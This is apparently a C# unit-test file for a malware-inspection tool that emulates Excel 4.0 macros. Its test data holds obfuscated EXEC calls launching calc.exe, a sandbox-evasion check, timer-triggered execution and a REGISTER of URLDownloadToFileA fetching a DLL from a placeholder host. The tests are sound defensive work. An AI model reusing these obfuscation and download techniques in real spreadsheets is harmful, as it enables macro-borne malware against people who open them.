using Sekisho.Inspection.Formats;
using Sekisho.SampleMaker;

namespace Sekisho.Inspection.Tests.Formats;

public class XlmInterpreterTests
{
    [Theory]
    [InlineData("EXEC(\"a\")", "EXEC(CHAR(99)&MID(\"xalcx\",2,3)&CONCATENATE(\".\",\"ex\",\"e\"))", "HALT()", "EXEC(\"z\")")]
    [InlineData("SET.VALUE(C1,\"calc\")", "SET.VALUE(C2,C1&\".exe\")", "EXEC(C2)", "HALT()")]
    [InlineData("GOTO(A3)", "HALT()", "EXEC(\"calc.exe\")", "HALT()")]
    [InlineData("FORMULA(\"=EXEC(\"\"calc\"\"&\"\".exe\"\")\",A2)", "0", "HALT()")]
    [InlineData("FORMULA(\"calc.exe\",B4)", "FORMULA.FILL(\"=EXEC(R[1]C[1])\",A3)", "0", "HALT()")]
    [InlineData("IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)", "EXEC(\"calc.exe\")", "HALT()")]
    [InlineData("RUN(A4)", "EXEC(\"calc\"&e)", "HALT()", "SET.NAME(\"e\",\".exe\")", "RETURN()")]
    [InlineData("name=\"calc\"", "SET.NAME(\"n\",0)", "WHILE(n<4)", "SET.NAME(\"n\",n+1)", "SET.NAME(\"name\",name&MID(\".exe\",n,1))", "NEXT()", "EXEC(name)", "HALT()")]
    [InlineData("SET.NAME(\"t\",\"\")", "FOR(\"i\",1,8)", "SET.NAME(\"t\",t&MID(\"calc.exe\",i,1))", "NEXT()", "EXEC(t)", "HALT()")]
    [InlineData("IF(1=2)", "EXEC(\"no\")", "ELSE()", "EXEC(\"calc.exe\")", "END.IF()", "HALT()")]
    [InlineData("EXEC(INDIRECT(\"B\"&1)&REPT(\"\",3)&SUBSTITUTE(\"calc_exe\",\"_\",\".\"))", "HALT()")]
    [InlineData("SET.NAME(\"f\",A4)", "EXEC(f(\".exe\"))", "HALT()", "ARGUMENT(\"x\",2)", "RETURN(\"calc\"&x)")]
    [InlineData("ON.TIME(NOW()+1,\"Macro1!A3\")", "HALT()", "EXEC(\"calc.exe\")", "HALT()")]
    public void Arguments_AreWorkedOut(params string[] formulas) =>
        Assert.Contains("EXEC(\"calc.exe\")", Follow(formulas).Actions.Select(a => a.ToString()[..Math.Min(16, a.ToString().Length)]));

    [Fact]
    public void RegisteredFunction_IsSeenUnderItsOwnName() =>
        Assert.Contains(Follow("REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",\"getit\",,1,9)", "getit(0,\"https://example.test/\",\"a.dll\",0,0)", "HALT()").Actions,
            a => a.Function == "CALL" && a.Arguments[1] == "\"URLDownloadToFileA\"" && a.Arguments[4] == "\"https://example.test/\"");

    [Fact]
    public void WhatNothingStarts_IsFollowedLast_AndSaidSo()
    {
        var actions = Follow("HALT()", "EXEC(\"later\")").Actions;

        Assert.False(Assert.Single(actions).IsAutomatic);
    }

    [Theory]
    [InlineData("GOTO(A1)")]
    [InlineData("RUN(A1)")]
    [InlineData("WHILE(TRUE)", "NEXT()")]
    [InlineData("SET.NAME(\"x\",REPT(\"a\",32000))", "SET.NAME(\"x\",x&x)", "GOTO(A2)")]
    [InlineData("FORMULA.FILL(\"=A1&A1\",A1:XFD1048576)", "HALT()")]
    [InlineData("EXEC(SUM(A1:XFD1048576))", "GOTO(A1)")]
    public void MacrosWithoutEnd_EndAtABound(params string[] formulas)
    {
        var clock = System.Diagnostics.Stopwatch.StartNew();
        Follow(formulas);
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(4), clock.Elapsed.ToString());
    }

    private static XlmProject Follow(params string[] formulas)
    {
        using var message = Letters.OpenDocument("a.xlsm", XlmSamples.Package(formulas));
        return message.Parts[0].Xlm!;
    }
}
